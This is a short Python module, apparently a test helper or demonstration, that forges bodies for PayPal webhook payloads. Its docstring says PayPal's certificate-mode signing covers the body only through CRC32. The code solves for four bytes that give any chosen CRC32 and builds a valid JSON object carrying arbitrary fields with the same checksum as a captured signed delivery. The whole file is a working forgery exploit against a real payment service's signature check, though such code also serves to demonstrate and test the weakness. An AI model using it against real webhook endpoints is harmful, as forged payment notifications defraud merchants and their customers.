"""A real CRC32 forgery: PayPal's certificate mode signs the body only through CRC32, so
anyone holding one signed delivery can write another valid-JSON body with the same CRC32.

CRC32 is affine over GF(2): with everything but four bytes fixed, the CRC is an invertible
affine map of those 32 bits, so the four bytes that hit a target CRC are one linear solve.
"""

from __future__ import annotations

import itertools
import json
import zlib
from typing import Any

_JSON_STRING_SAFE = frozenset(range(0x20, 0x7F)) - {ord('"'), ord("\\")}


def crc32_patch(prefix: bytes, suffix: bytes, target: int) -> bytes:
    """The four bytes X with crc32(prefix + X + suffix) == target."""
    base = zlib.crc32(prefix + bytes(4) + suffix)
    # XOR basis of the 32 single-bit columns, kept sorted by leading bit (descending).
    basis: list[tuple[int, int]] = []
    for bit in range(32):
        vector = zlib.crc32(prefix + (1 << bit).to_bytes(4, "little") + suffix) ^ base
        combination = 1 << bit
        for known, known_combination in basis:
            if vector ^ known < vector:
                vector, combination = vector ^ known, combination ^ known_combination
        if vector:
            basis.append((vector, combination))
            basis.sort(reverse=True)
    remaining, solution = target ^ base, 0
    for known, known_combination in basis:
        if remaining ^ known < remaining:
            remaining, solution = remaining ^ known, solution ^ known_combination
    assert remaining == 0, "CRC32 over four contiguous bytes is always solvable"
    return solution.to_bytes(4, "little")


def forge_json(document: dict[str, Any], target_crc: int) -> bytes:
    """A JSON object with `document`'s fields whose CRC32 is `target_crc`.

    The four solved bytes go into a string field; a counter field is varied until they
    are all printable and need no escaping (about one try in sixty).
    """
    for counter in itertools.count():
        head = json.dumps({**document, "n": counter}, separators=(",", ":"))[:-1]
        prefix, suffix = (head + ',"pad":"').encode(), b'"}'
        patch = crc32_patch(prefix, suffix, target_crc)
        if _JSON_STRING_SAFE.issuperset(patch):
            return prefix + patch + suffix
    raise AssertionError("unreachable")
